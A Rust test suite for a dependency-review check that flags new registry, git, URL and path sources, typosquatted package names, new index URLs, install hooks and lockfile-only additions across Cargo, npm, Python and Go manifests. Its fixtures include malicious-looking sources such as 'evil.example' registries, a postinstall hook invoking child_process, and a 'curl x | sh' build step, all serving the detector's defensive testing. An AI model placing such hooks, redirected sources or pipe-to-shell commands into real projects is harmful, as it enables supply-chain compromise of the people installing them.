//! Behaviour tests for the `new-dependency` core: per manifest kind, cases that must fire and
//! cases that must stay silent (bumps, reorders, removals, comment edits, section moves),
//! evasive variants, the typosquat list check, lockfile growth, and the online look-up.

use super::typosquat::{check, established, osa_distance, popular, target_top};
use super::*;

fn run(kind: ManifestKind, path: &str, base: Option<&str>, head: &str) -> Vec<DependencyFinding> {
    compare(kind, path, base, Some(head)).unwrap()
}

fn kinds(f: &[DependencyFinding]) -> Vec<(&'static str, Severity, u32)> {
    f.iter().map(|x| (x.kind, x.severity, x.line)).collect()
}

fn one(f: &[DependencyFinding]) -> &DependencyFinding {
    assert_eq!(f.len(), 1, "expected exactly one finding, got {f:#?}");
    &f[0]
}

// ---------------------------------------------------------------- manifest_kind

#[test]
fn manifest_kinds_by_file_name() {
    use ManifestKind::*;
    let cases: &[(&str, Option<ManifestKind>)] = &[
        ("Cargo.toml", Some(CargoToml)),
        ("crates/x/Cargo.toml", Some(CargoToml)),
        ("web/package.json", Some(PackageJson)),
        ("node_modules/x/package.json", None),
        ("pyproject.toml", Some(PyProject)),
        ("requirements.txt", Some(Requirements)),
        ("requirements-dev.txt", Some(Requirements)),
        ("dev-requirements.txt", Some(Requirements)),
        ("requirements/base.txt", Some(Requirements)),
        ("requirements.in", Some(Requirements)),
        ("constraints.txt", Some(Requirements)),
        ("notes.txt", None),
        ("Pipfile", Some(Pipfile)),
        ("Pipfile.lock", Some(PipfileLock)),
        ("setup.cfg", Some(SetupCfg)),
        ("go.mod", Some(GoMod)),
        ("go.sum", Some(GoSum)),
        ("Cargo.lock", Some(CargoLock)),
        ("package-lock.json", Some(PackageLock)),
        ("npm-shrinkwrap.json", Some(PackageLock)),
        ("yarn.lock", Some(YarnLock)),
        ("pnpm-lock.yaml", Some(PnpmLock)),
        ("poetry.lock", Some(PoetryLock)),
        ("uv.lock", Some(UvLock)),
        ("pdm.lock", Some(PdmLock)),
        (".npmrc", Some(RegistryConfig)),
        ("pip.conf", Some(RegistryConfig)),
        (".cargo/config.toml", Some(RegistryConfig)),
        ("src/config.toml", None),
        ("src/main.rs", None),
        ("Cargo.toml.orig", None),
    ];
    for (path, want) in cases {
        assert_eq!(manifest_kind(path), *want, "{path}");
    }
}

// ---------------------------------------------------------------- Cargo.toml

const CARGO_BASE: &str = r#"[package]
name = "demo"
version = "0.1.0"

[dependencies]
serde = "1.0"
regex = { version = "1.10", features = ["std"] }

[dev-dependencies]
tempfile = "3"
"#;

#[test]
fn cargo_added_registry_dep_is_a_note_with_its_line() {
    let head = CARGO_BASE.replace("regex = {", "anyhow = \"1\"\nregex = {");
    let f = run(
        ManifestKind::CargoToml,
        "Cargo.toml",
        Some(CARGO_BASE),
        &head,
    );
    let f = one(&f);
    assert_eq!(
        (f.kind, f.severity, f.line),
        ("registry", Severity::Note, 7)
    );
    assert!(
        f.message.contains("`anyhow`") && f.message.contains("[dependencies]"),
        "{}",
        f.message
    );
}

#[test]
fn cargo_git_path_and_registry_sources() {
    let head = format!(
        "{CARGO_BASE}\n[build-dependencies]\nfoo = {{ git = \"https://github.com/x/foo\", rev = \"abc\" }}\nlocal = {{ path = \"../local\" }}\nescape = {{ path = \"../../../elsewhere\" }}\nalt = {{ version = \"1\", registry = \"corp\" }}\n"
    );
    let f = run(
        ManifestKind::CargoToml,
        "crates/demo/Cargo.toml",
        Some(CARGO_BASE),
        &head,
    );
    let got: Vec<_> = f.iter().map(|x| (x.kind, x.severity)).collect();
    assert_eq!(
        got,
        vec![
            ("git-source", Severity::Error),
            ("path-source", Severity::Note),
            ("path-source", Severity::Error),
            ("alternate-registry", Severity::Error),
        ],
        "{f:#?}"
    );
    assert!(f[0].message.contains("https://github.com/x/foo"));
}

#[test]
fn cargo_target_workspace_and_patch_tables() {
    let head = format!(
        "{CARGO_BASE}\n[target.'cfg(windows)'.dependencies]\nwinapi = \"0.3\"\n\n[workspace.dependencies]\nitertools = \"0.13\"\n\n[patch.crates-io]\nserde = {{ git = \"https://evil.example/serde\" }}\n"
    );
    let f = run(
        ManifestKind::CargoToml,
        "Cargo.toml",
        Some(CARGO_BASE),
        &head,
    );
    let got: Vec<_> = f.iter().map(|x| (x.kind, x.line)).collect();
    assert_eq!(
        got,
        vec![("registry", 13), ("registry", 16), ("git-source", 19)],
        "{f:#?}"
    );
    assert!(f[0].message.contains("target.'cfg(windows)'.dependencies"));
    assert_eq!(
        f[2].message,
        "dependency `serde` (Cargo.toml [patch.crates-io]) now comes from git `https://evil.example/serde`, bypassing crates.io"
    );
}

#[test]
fn cargo_typosquat_and_renamed_package() {
    let head = CARGO_BASE.replace(
        "regex = {",
        "tokoi = \"1\"\njson = { package = \"serde_jsno\", version = \"1\" }\nregex = {",
    );
    let f = run(
        ManifestKind::CargoToml,
        "Cargo.toml",
        Some(CARGO_BASE),
        &head,
    );
    assert_eq!(f.len(), 2, "{f:#?}");
    assert!(
        f.iter()
            .all(|x| x.kind == "typosquat" && x.severity == Severity::Error)
    );
    assert!(
        f[0].message.contains("did you mean `tokio`?"),
        "{}",
        f[0].message
    );
    assert!(
        f[1].message.contains("did you mean `serde_json`?"),
        "{}",
        f[1].message
    );
    assert_eq!(f[1].line, 8);
}

#[test]
fn cargo_silent_changes() {
    let variants = [
        // version bump
        CARGO_BASE.replace("serde = \"1.0\"", "serde = \"1.0.200\""),
        // reorder
        CARGO_BASE.replace(
            "serde = \"1.0\"\nregex = { version = \"1.10\", features = [\"std\"] }",
            "regex = { version = \"1.10\", features = [\"std\"] }\nserde = \"1.0\"",
        ),
        // removal
        CARGO_BASE.replace("tempfile = \"3\"\n", ""),
        // comments and whitespace
        CARGO_BASE.replace("[dependencies]\n", "[dependencies]\n# pinned for MSRV\n\n"),
        // moved from dev to normal dependencies
        CARGO_BASE
            .replace("tempfile = \"3\"\n", "")
            .replace("serde = \"1.0\"", "serde = \"1.0\"\ntempfile = \"3\""),
        // inline table instead of string, dotted-key form
        CARGO_BASE.replace(
            "serde = \"1.0\"",
            "serde.version = \"1.0\"\nserde.features = [\"derive\"]",
        ),
        // workspace inheritance points at the root's entry
        CARGO_BASE.replace(
            "[dev-dependencies]",
            "[dev-dependencies]\nclap = { workspace = true }",
        ),
        // git revision bump of an existing git dependency
    ];
    for head in &variants {
        let f = run(
            ManifestKind::CargoToml,
            "Cargo.toml",
            Some(CARGO_BASE),
            head,
        );
        assert!(f.is_empty(), "head:\n{head}\nfindings: {f:#?}");
    }
    let git_base =
        format!("{CARGO_BASE}foo = {{ git = \"https://github.com/x/foo\", rev = \"a1\" }}\n");
    let git_head = git_base.replace("rev = \"a1\"", "rev = \"b2\"");
    assert!(
        run(
            ManifestKind::CargoToml,
            "Cargo.toml",
            Some(&git_base),
            &git_head
        )
        .is_empty()
    );
}

#[test]
fn cargo_added_file_reports_everything_and_deleted_file_nothing() {
    let f = run(ManifestKind::CargoToml, "Cargo.toml", None, CARGO_BASE);
    assert_eq!(f.len(), 3);
    assert!(
        compare(
            ManifestKind::CargoToml,
            "Cargo.toml",
            Some(CARGO_BASE),
            None
        )
        .unwrap()
        .is_empty()
    );
}

#[test]
fn parse_errors_head_is_err_base_counts_as_empty() {
    let err = compare(
        ManifestKind::CargoToml,
        "Cargo.toml",
        Some(CARGO_BASE),
        Some("[dependencies\nx = "),
    );
    assert!(err.is_err());
    let f = run(
        ManifestKind::CargoToml,
        "Cargo.toml",
        Some("[dependencies\n"),
        CARGO_BASE,
    );
    assert_eq!(f.len(), 3);
    assert!(compare(ManifestKind::PackageJson, "package.json", None, Some("{")).is_err());
    assert!(compare(ManifestKind::PackageJson, "package.json", None, Some("[1]")).is_err());
    assert!(
        compare(
            ManifestKind::PyProject,
            "pyproject.toml",
            None,
            Some("[project\n")
        )
        .is_err()
    );
    assert!(compare(ManifestKind::Pipfile, "Pipfile", None, Some("[[[")).is_err());
    assert!(
        compare(
            ManifestKind::PackageLock,
            "package-lock.json",
            None,
            Some("{")
        )
        .is_err()
    );
}

// ---------------------------------------------------------------- package.json

const PKG_BASE: &str = r#"{
  "name": "web",
  "version": "1.0.0",
  "scripts": {
    "test": "jest",
    "build": "tsc"
  },
  "dependencies": {
    "express": "^4.18.0",
    "lodash": "^4.17.21"
  },
  "devDependencies": {
    "jest": "^29.0.0"
  }
}
"#;

#[test]
fn npm_added_dependency_note_and_line() {
    let head = PKG_BASE.replace(
        "\"lodash\": \"^4.17.21\"",
        "\"lodash\": \"^4.17.21\",\n    \"zod\": \"^3.23.0\"",
    );
    let f = run(
        ManifestKind::PackageJson,
        "package.json",
        Some(PKG_BASE),
        &head,
    );
    let f = one(&f);
    assert_eq!(
        (f.kind, f.severity, f.line),
        ("registry", Severity::Note, 11)
    );
    assert!(f.message.contains("`zod` ^3.23.0"), "{}", f.message);
}

#[test]
fn npm_non_registry_specs_are_errors() {
    let specs = [
        ("a", "git+https://github.com/x/a.git#v1", "git-source"),
        ("b", "github:x/b", "git-source"),
        ("c", "x/c#main", "git-source"),
        ("d", "https://example.com/d-1.0.0.tgz", "url-source"),
        ("e", "git://example.com/e.git", "git-source"),
        ("f", "file:/opt/f", "path-source"),
    ];
    for (name, spec, kind) in specs {
        let head = PKG_BASE.replace(
            "\"jest\": \"^29.0.0\"",
            &format!("\"jest\": \"^29.0.0\",\n    \"{name}\": \"{spec}\""),
        );
        let f = run(
            ManifestKind::PackageJson,
            "package.json",
            Some(PKG_BASE),
            &head,
        );
        let f = one(&f);
        assert_eq!(
            (f.kind, f.severity),
            (kind, Severity::Error),
            "{spec}: {}",
            f.message
        );
        assert_eq!(f.line, 14);
    }
    // A path inside the repository is code under review: a note.
    let head = PKG_BASE.replace(
        "\"jest\": \"^29.0.0\"",
        "\"jest\": \"^29.0.0\",\n    \"shared\": \"file:../shared\"",
    );
    let f = run(
        ManifestKind::PackageJson,
        "apps/web/package.json",
        Some(PKG_BASE),
        &head,
    );
    assert_eq!(kinds(&f), vec![("path-source", Severity::Note, 14)]);
}

#[test]
fn npm_typosquat_alias_and_scopes() {
    let head = PKG_BASE.replace(
        "\"lodash\": \"^4.17.21\"",
        "\"lodash\": \"^4.17.21\",\n    \"expresss\": \"^4\",\n    \"utils\": \"npm:lodahs@^4\"",
    );
    let f = run(
        ManifestKind::PackageJson,
        "package.json",
        Some(PKG_BASE),
        &head,
    );
    assert_eq!(f.len(), 2, "{f:#?}");
    assert!(
        f[0].message.contains("did you mean `express`?"),
        "{}",
        f[0].message
    );
    assert!(f[1].message.contains("`lodahs`") && f[1].message.contains("did you mean `lodash`?"));
    assert!(f.iter().all(|x| x.kind == "typosquat"));
}

#[test]
fn npm_install_scripts_new_and_changed() {
    let head = PKG_BASE.replace(
        "\"build\": \"tsc\"",
        "\"build\": \"tsc\",\n    \"postinstall\": \"node -e \\\"require('child_process')\\\"\"",
    );
    let f = run(
        ManifestKind::PackageJson,
        "package.json",
        Some(PKG_BASE),
        &head,
    );
    assert_eq!(kinds(&f), vec![("install-script", Severity::Error, 7)]);
    let changed = head.replace("node -e", "node  --no-warnings -e");
    let f = run(
        ManifestKind::PackageJson,
        "package.json",
        Some(&head),
        &changed,
    );
    assert_eq!(kinds(&f), vec![("install-script", Severity::Error, 7)]);
    assert!(f[0].message.starts_with("changed `postinstall`"));
    // Other scripts are not install hooks.
    let head = PKG_BASE.replace("\"build\": \"tsc\"", "\"build\": \"tsc && curl x | sh\"");
    assert!(
        run(
            ManifestKind::PackageJson,
            "package.json",
            Some(PKG_BASE),
            &head
        )
        .is_empty()
    );
    // `prepare` counts too.
    let head = PKG_BASE.replace(
        "\"build\": \"tsc\"",
        "\"build\": \"tsc\", \"prepare\": \"husky\"",
    );
    assert_eq!(
        run(
            ManifestKind::PackageJson,
            "package.json",
            Some(PKG_BASE),
            &head
        )
        .len(),
        1
    );
}

#[test]
fn npm_overrides_to_git_are_errors_registry_pins_are_not() {
    let head = PKG_BASE.replace(
        "\"devDependencies\"",
        "\"overrides\": { \"lodash\": \"4.17.21\", \"express\": { \"qs\": \"github:evil/qs\" } },\n  \"devDependencies\"",
    );
    let f = run(
        ManifestKind::PackageJson,
        "package.json",
        Some(PKG_BASE),
        &head,
    );
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].kind, "git-source");
    assert!(f[0].message.contains("`qs`"));
}

#[test]
fn npm_silent_changes() {
    let variants = [
        PKG_BASE.replace("^4.18.0", "^4.19.2"),
        PKG_BASE.replace(
            "\"express\": \"^4.18.0\",\n    \"lodash\": \"^4.17.21\"",
            "\"lodash\": \"^4.17.21\",\n    \"express\": \"^4.18.0\"",
        ),
        PKG_BASE.replace(",\n    \"lodash\": \"^4.17.21\"", ""),
        // jest moved from devDependencies to dependencies
        PKG_BASE.replace("\"jest\": \"^29.0.0\"", "").replace(
            "\"lodash\": \"^4.17.21\"",
            "\"lodash\": \"^4.17.21\",\n    \"jest\": \"^29.0.0\"",
        ),
        // minified
        serde_json::to_string(&serde_json::from_str::<serde_json::Value>(PKG_BASE).unwrap())
            .unwrap(),
        // workspace protocol
        PKG_BASE.replace(
            "\"jest\": \"^29.0.0\"",
            "\"jest\": \"^29.0.0\", \"@me/ui\": \"workspace:*\"",
        ),
        // a non-install script
        PKG_BASE.replace("\"test\": \"jest\"", "\"test\": \"jest --ci\""),
    ];
    for head in &variants {
        let f = run(
            ManifestKind::PackageJson,
            "package.json",
            Some(PKG_BASE),
            head,
        );
        assert!(f.is_empty(), "head:\n{head}\nfindings: {f:#?}");
    }
}

// ---------------------------------------------------------------- pyproject.toml

const PY_BASE: &str = r#"[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "demo"
dependencies = [
    "requests>=2.31",
    "click",
]

[project.optional-dependencies]
test = ["pytest>=8"]

[dependency-groups]
dev = ["ruff", {include-group = "test"}]
"#;

#[test]
fn pyproject_sections_each_fire() {
    let head = PY_BASE
        .replace(
            "\"click\",",
            "\"click\",\n    \"httpx[http2]>=0.27 ; python_version >= '3.9'\",",
        )
        .replace("[\"pytest>=8\"]", "[\"pytest>=8\", \"hypothesis\"]")
        .replace("dev = [\"ruff\",", "dev = [\"ruff\", \"mypy\",")
        .replace("[\"hatchling\"]", "[\"hatchling\", \"hatch-vcs\"]");
    let f = run(
        ManifestKind::PyProject,
        "pyproject.toml",
        Some(PY_BASE),
        &head,
    );
    let got: Vec<_> = f.iter().map(|x| (x.kind, x.line)).collect();
    assert_eq!(
        got,
        vec![
            ("registry", 2),
            ("registry", 10),
            ("registry", 14),
            ("registry", 17)
        ],
        "{f:#?}"
    );
    assert!(f[1].message.contains("`httpx`") && f[1].message.contains(">=0.27"));
}

#[test]
fn pyproject_typo_and_direct_url() {
    let head = PY_BASE.replace(
        "\"click\",",
        "\"click\",\n    \"reqeusts==2.31\",\n    \"mylib @ git+https://github.com/x/mylib.git@v1\",",
    );
    let f = run(
        ManifestKind::PyProject,
        "pyproject.toml",
        Some(PY_BASE),
        &head,
    );
    assert_eq!(
        kinds(&f),
        vec![
            ("typosquat", Severity::Error, 10),
            ("git-source", Severity::Error, 11)
        ]
    );
    assert!(
        f[0].message
            .contains("did you mean `requests`? (adjacent characters swapped)"),
        "{}",
        f[0].message
    );
    assert!(
        f[1].message.contains("git+https://github.com/x/mylib.git`"),
        "{}",
        f[1].message
    );
}

#[test]
fn pyproject_uv_sources_and_indexes() {
    let head = format!(
        "{PY_BASE}\n[tool.uv.sources]\nrequests = {{ git = \"https://github.com/evil/requests\" }}\n\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"https://pypi.corp.example/simple\"\n"
    );
    let f = run(
        ManifestKind::PyProject,
        "pyproject.toml",
        Some(PY_BASE),
        &head,
    );
    let got: Vec<_> = f.iter().map(|x| (x.kind, x.severity)).collect();
    assert_eq!(
        got,
        vec![
            ("git-source", Severity::Error),
            ("index-url", Severity::Error)
        ],
        "{f:#?}"
    );
    assert!(
        f[0].message
            .contains("`requests` (pyproject.toml [project.dependencies]) now comes from git"),
        "{}",
        f[0].message
    );
    assert_eq!(f[1].line, 23);
}

#[test]
fn pyproject_poetry_tables() {
    let base = "[tool.poetry.dependencies]\npython = \"^3.11\"\nrequests = \"^2.31\"\n\n[tool.poetry.group.dev.dependencies]\npytest = \"^8\"\n";
    let head = format!(
        "{base}black = {{ version = \"^24\" }}\n\n[tool.poetry.group.lint.dependencies]\nmylint = {{ git = \"https://github.com/x/mylint.git\", branch = \"main\" }}\n\n[[tool.poetry.source]]\nname = \"private\"\nurl = \"https://pkgs.example.com/simple/\"\n"
    );
    let f = run(ManifestKind::PyProject, "pyproject.toml", Some(base), &head);
    assert_eq!(
        kinds(&f),
        vec![
            ("registry", Severity::Note, 7),
            ("git-source", Severity::Error, 10),
            ("index-url", Severity::Error, 14)
        ],
        "{f:#?}"
    );
    // python version change and bumps stay silent
    let bumped = base.replace("^3.11", "^3.12").replace("^2.31", "^2.32");
    assert!(
        run(
            ManifestKind::PyProject,
            "pyproject.toml",
            Some(base),
            &bumped
        )
        .is_empty()
    );
}

#[test]
fn pyproject_silent_changes() {
    let variants = [
        PY_BASE.replace("requests>=2.31", "requests>=2.32"),
        PY_BASE.replace(
            "    \"requests>=2.31\",\n    \"click\",",
            "    \"click\",\n    \"requests>=2.31\",",
        ),
        PY_BASE.replace("    \"click\",\n", ""),
        // PEP 503: the same project spelled differently
        PY_BASE.replace("\"click\"", "\"Click\""),
        PY_BASE.replace("requests>=2.31", "Requests >= 2.31"),
        // moved from main dependencies to an optional group
        PY_BASE
            .replace("    \"click\",\n", "")
            .replace("[\"pytest>=8\"]", "[\"pytest>=8\", \"click\"]"),
        PY_BASE.replace("[project]", "# the project\n[project]"),
    ];
    for head in &variants {
        let f = run(
            ManifestKind::PyProject,
            "pyproject.toml",
            Some(PY_BASE),
            head,
        );
        assert!(f.is_empty(), "head:\n{head}\nfindings: {f:#?}");
    }
}

// ---------------------------------------------------------------- requirements files

const REQ_BASE: &str = "# runtime\nrequests==2.31.0\nclick>=8 ; python_version >= \"3.8\"\n";

#[test]
fn requirements_positive_cases() {
    let head = format!(
        "{REQ_BASE}httpx==0.27.0 \\\n    --hash=sha256:abc\n-e git+https://github.com/x/tool.git@v1#egg=tool\nfoo @ https://example.com/foo-1.0-py3-none-any.whl\n--extra-index-url https://pypi.example.com/simple\n-i https://mirror.example.com/simple\n-r other.txt\n--requirement=https://example.com/reqs.txt\nreqeusts==2.31\n"
    );
    let f = run(
        ManifestKind::Requirements,
        "requirements.txt",
        Some(REQ_BASE),
        &head,
    );
    assert_eq!(
        kinds(&f),
        vec![
            ("registry", Severity::Note, 4),
            ("git-source", Severity::Error, 6),
            ("url-source", Severity::Error, 7),
            ("index-url", Severity::Error, 8),
            ("index-url", Severity::Error, 9),
            ("include", Severity::Note, 10),
            ("url-source", Severity::Error, 11),
            ("typosquat", Severity::Error, 12),
        ],
        "{f:#?}"
    );
    assert!(f[1].message.contains("`tool`"), "{}", f[1].message);
    assert_eq!(
        f[7].message,
        "new dependency `reqeusts` ==2.31 (requirements.txt [requirements]) from PyPI: did you mean `requests`? (adjacent characters swapped)"
    );
}

#[test]
fn requirements_bare_urls_and_paths() {
    let head = format!(
        "{REQ_BASE}git+https://github.com/x/y.git#egg=ylib\n./vendor/z-1.0.tar.gz\n/abs/w\n"
    );
    let f = run(
        ManifestKind::Requirements,
        "requirements.txt",
        Some(REQ_BASE),
        &head,
    );
    assert_eq!(
        kinds(&f),
        vec![
            ("git-source", Severity::Error, 4),
            ("path-source", Severity::Note, 5),
            ("path-source", Severity::Error, 6)
        ],
        "{f:#?}"
    );
    assert!(f[0].message.contains("`ylib`"));
    assert!(f[1].message.contains("`z`"));
}

#[test]
fn requirements_silent_changes() {
    let variants = [
        REQ_BASE.replace("2.31.0", "2.32.3"),
        "click>=8 ; python_version >= \"3.8\"\n# runtime\nrequests==2.31.0\n".to_string(),
        REQ_BASE.replace("# runtime", "# runtime deps, keep sorted"),
        REQ_BASE.replace("requests==2.31.0", "requests==2.31.0  # security pin"),
        REQ_BASE.replace("requests==2.31.0", "Requests==2.31.0"),
        REQ_BASE.replace("requests==2.31.0\n", ""),
        format!("{REQ_BASE}\n\n"),
        REQ_BASE.replace(
            "requests==2.31.0",
            "requests==2.31.0 --hash=sha256:deadbeef",
        ),
    ];
    for head in &variants {
        let f = run(
            ManifestKind::Requirements,
            "requirements.txt",
            Some(REQ_BASE),
            head,
        );
        assert!(f.is_empty(), "head:\n{head}\nfindings: {f:#?}");
    }
    // An index URL already present is not new, even with a trailing slash.
    let base = "--index-url https://pypi.example.com/simple\nrequests\n";
    let head = "--index-url https://pypi.example.com/simple/\nrequests\n";
    assert!(
        run(
            ManifestKind::Requirements,
            "requirements.txt",
            Some(base),
            head
        )
        .is_empty()
    );
}

// ---------------------------------------------------------------- Pipfile

#[test]
fn pipfile_cases() {
    let base = "[[source]]\nurl = \"https://pypi.org/simple\"\nname = \"pypi\"\n\n[packages]\nrequests = \"*\"\n\n[dev-packages]\npytest = \"*\"\n";
    let head = format!(
        "{base}mylib = {{ git = \"https://github.com/x/mylib.git\", ref = \"main\" }}\nflask = {{ version = \"*\" }}\n\n[[source]]\nurl = \"https://evil.example/simple\"\nname = \"evil\"\n"
    );
    let f = run(ManifestKind::Pipfile, "Pipfile", Some(base), &head);
    assert_eq!(
        kinds(&f),
        vec![
            ("git-source", Severity::Error, 10),
            ("registry", Severity::Note, 11),
            ("index-url", Severity::Error, 14)
        ],
        "{f:#?}"
    );
    let moved = base
        .replace("pytest = \"*\"", "")
        .replace("requests = \"*\"", "requests = \"*\"\npytest = \"==8.0\"");
    assert!(run(ManifestKind::Pipfile, "Pipfile", Some(base), &moved).is_empty());
}

// ---------------------------------------------------------------- setup.cfg

#[test]
fn setup_cfg_cases() {
    let base = "[metadata]\nname = demo\n\n[options]\npython_requires = >=3.8\ninstall_requires =\n    requests>=2\n    click\n\n[options.extras_require]\ntest =\n    pytest\n";
    let head = base
        .replace("    click\n", "    click\n    numpy>=1.26\n")
        .replace("    pytest\n", "    pytest\n    pytset\n");
    let f = run(ManifestKind::SetupCfg, "setup.cfg", Some(base), &head);
    assert_eq!(
        kinds(&f),
        vec![
            ("registry", Severity::Note, 9),
            ("typosquat", Severity::Error, 14)
        ],
        "{f:#?}"
    );
    let bumped = base
        .replace("requests>=2", "requests>=2.31")
        .replace("[metadata]", "# meta\n[metadata]");
    assert!(run(ManifestKind::SetupCfg, "setup.cfg", Some(base), &bumped).is_empty());
    let idx = format!("{base}\n[easy_install]\nindex_url = https://evil.example/simple\n");
    assert_eq!(
        kinds(&run(ManifestKind::SetupCfg, "setup.cfg", Some(base), &idx)),
        vec![("index-url", Severity::Error, 15)]
    );
}

// ---------------------------------------------------------------- go.mod

const GO_BASE: &str = "module example.com/app\n\ngo 1.22\n\nrequire (\n\tgithub.com/spf13/cobra v1.8.0\n\tgolang.org/x/sys v0.20.0 // indirect\n)\n";

#[test]
fn gomod_cases() {
    let head = GO_BASE
        .replace("\tgolang.org/x/sys", "\tgithub.com/google/uuid v1.6.0\n\tgolang.org/x/sys")
        .replace(")\n", ")\n\nrequire github.com/pkg/errors v0.9.1\n\nreplace github.com/spf13/cobra => github.com/evil/cobra v1.8.0\n\nreplace example.com/lib => ../lib\n");
    let f = run(ManifestKind::GoMod, "go.mod", Some(GO_BASE), &head);
    assert_eq!(
        kinds(&f),
        vec![
            ("registry", Severity::Note, 7),
            ("registry", Severity::Note, 11),
            ("git-source", Severity::Error, 13),
            ("path-source", Severity::Error, 15),
        ],
        "{f:#?}"
    );
    let silent = [
        GO_BASE.replace("v1.8.0", "v1.8.1"),
        GO_BASE.replace(
            "v0.20.0 // indirect",
            "v0.20.0 // indirect\n\tgolang.org/x/text v0.15.0 // indirect",
        ),
        GO_BASE.replace("go 1.22", "go 1.23"),
        GO_BASE.replace("require (", "// deps\nrequire ("),
    ];
    for head in &silent {
        assert!(
            run(ManifestKind::GoMod, "go.mod", Some(GO_BASE), head).is_empty(),
            "{head}"
        );
    }
}

// ---------------------------------------------------------------- registry config

#[test]
fn registry_config_files() {
    let base = "save-exact=true\n";
    let head = "save-exact=true\n@corp:registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=${TOKEN}\n";
    let f = run(ManifestKind::RegistryConfig, ".npmrc", Some(base), head);
    assert_eq!(kinds(&f), vec![("index-url", Severity::Error, 2)]);
    assert!(run(ManifestKind::RegistryConfig, ".npmrc", Some(head), head).is_empty());
    let pip = "[global]\nextra-index-url = https://evil.example/simple\n";
    assert_eq!(
        run(ManifestKind::RegistryConfig, "pip.conf", None, pip).len(),
        1
    );
    let cargo = "[source.crates-io]\nreplace-with = \"mirror\"\n\n[source.mirror]\nregistry = \"sparse+https://mirror.example/index/\"\n";
    assert_eq!(
        run(
            ManifestKind::RegistryConfig,
            ".cargo/config.toml",
            None,
            cargo
        )
        .len(),
        2
    );
    let yarn = "npmScopes:\n  corp:\n    npmRegistryServer: \"https://npm.corp.example\"\n";
    assert_eq!(
        kinds(&run(
            ManifestKind::RegistryConfig,
            ".yarnrc.yml",
            None,
            yarn
        )),
        vec![("index-url", Severity::Error, 3)]
    );
}

// ---------------------------------------------------------------- lockfiles

const CARGO_LOCK: &str = "version = 4\n\n[[package]]\nname = \"demo\"\nversion = \"0.1.0\"\n\n[[package]]\nname = \"serde\"\nversion = \"1.0.200\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n";

#[test]
fn cargo_lock_growth_warning_and_manifest_pairing() {
    let head = format!(
        "{CARGO_LOCK}\n[[package]]\nname = \"evil\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n\n[[package]]\nname = \"member\"\nversion = \"0.1.0\"\n"
    );
    let f = run(
        ManifestKind::CargoLock,
        "Cargo.lock",
        Some(CARGO_LOCK),
        &head,
    );
    let f = one(&f);
    assert_eq!(
        (f.kind, f.severity, f.line),
        ("lockfile-only", Severity::Warning, 13)
    );
    assert!(
        f.message.contains("gains 1 package (`evil`)"),
        "{}",
        f.message
    );
    // version change only: silent
    let bumped = CARGO_LOCK.replace("1.0.200", "1.0.201");
    assert!(
        run(
            ManifestKind::CargoLock,
            "Cargo.lock",
            Some(CARGO_LOCK),
            &bumped
        )
        .is_empty()
    );
    // with a manifest change in the workspace, the engine drops it
    for changed in [
        &["Cargo.lock", "Cargo.toml"][..],
        &["Cargo.lock", "crates/x/Cargo.toml"][..],
    ] {
        let f = compare_in_change(
            ManifestKind::CargoLock,
            "Cargo.lock",
            Some(CARGO_LOCK),
            Some(&head),
            changed,
            Ownership::Project,
        )
        .unwrap();
        assert!(f.is_empty());
    }
    let f = compare_in_change(
        ManifestKind::CargoLock,
        "Cargo.lock",
        Some(CARGO_LOCK),
        Some(&head),
        &["Cargo.lock", "src/lib.rs", "package.json"],
        Ownership::Project,
    )
    .unwrap();
    assert_eq!(f.len(), 1);
}

#[test]
fn lockfile_manifest_pairing_rules() {
    assert!(lockfile_manifest_changed(
        "app/package-lock.json",
        &["app/package.json"]
    ));
    assert!(lockfile_manifest_changed(
        "package-lock.json",
        &["packages/ui/package.json"]
    ));
    assert!(!lockfile_manifest_changed(
        "app/package-lock.json",
        &["other/package.json"]
    ));
    assert!(!lockfile_manifest_changed(
        "app/package-lock.json",
        &["app2/package.json"]
    ));
    assert!(!lockfile_manifest_changed(
        "yarn.lock",
        &["node_modules/x/package.json"]
    ));
    assert!(lockfile_manifest_changed("uv.lock", &["pyproject.toml"]));
    assert!(!lockfile_manifest_changed("uv.lock", &["requirements.txt"]));
    assert!(lockfile_manifest_changed("go.sum", &["go.mod"]));
    assert!(lockfile_manifest_changed("Pipfile.lock", &["Pipfile"]));
    assert!(!lockfile_manifest_changed("Cargo.toml", &["Cargo.toml"]));
}

#[test]
fn other_lockfile_formats_count_new_names() {
    let pl_base = r#"{"lockfileVersion":3,"packages":{"":{"name":"app"},"node_modules/a":{"version":"1.0.0"}}}"#;
    let pl_head = r#"{"lockfileVersion":3,"packages":{"":{"name":"app"},"node_modules/a":{"version":"1.0.1"},"node_modules/a/node_modules/@s/b":{"version":"2.0.0"},"packages/ui":{"version":"1.0.0"},"node_modules/ui":{"link":true}}}"#;
    let cases: Vec<(ManifestKind, &str, String, String, usize)> = vec![
        (ManifestKind::PackageLock, "package-lock.json", pl_base.into(), pl_head.into(), 1),
        (
            ManifestKind::YarnLock,
            "yarn.lock",
            "# yarn lockfile v1\n\n\"a@^1.0.0\":\n  version \"1.0.0\"\n".into(),
            "# yarn lockfile v1\n\n\"a@^1.0.0\", a@^1.1.0:\n  version \"1.1.0\"\n\n\"@s/b@^2\":\n  version \"2.0.0\"\n\nc@npm:^3:\n  version \"3.0.0\"\n".into(),
            2,
        ),
        (
            ManifestKind::PnpmLock,
            "pnpm-lock.yaml",
            "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: x}\n".into(),
            "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.1:\n    resolution: {integrity: x}\n\n  '@s/b@2.0.0':\n    resolution: {integrity: y}\n\nsnapshots:\n\n  c@1.0.0: {}\n".into(),
            1,
        ),
        (
            ManifestKind::PoetryLock,
            "poetry.lock",
            "[[package]]\nname = \"requests\"\nversion = \"2.31.0\"\n".into(),
            "[[package]]\nname = \"Requests\"\nversion = \"2.32.0\"\n\n[[package]]\nname = \"idna\"\nversion = \"3.7\"\n\n[metadata]\nlock-version = \"2.0\"\n".into(),
            1,
        ),
        (
            ManifestKind::UvLock,
            "uv.lock",
            "version = 1\n\n[[package]]\nname = \"a\"\nversion = \"1\"\n".into(),
            "version = 1\n\n[[package]]\nname = \"a\"\nversion = \"1\"\n\n[[package]]\nname = \"b\"\nversion = \"1\"\nsource = { registry = \"https://pypi.org/simple\" }\n".into(),
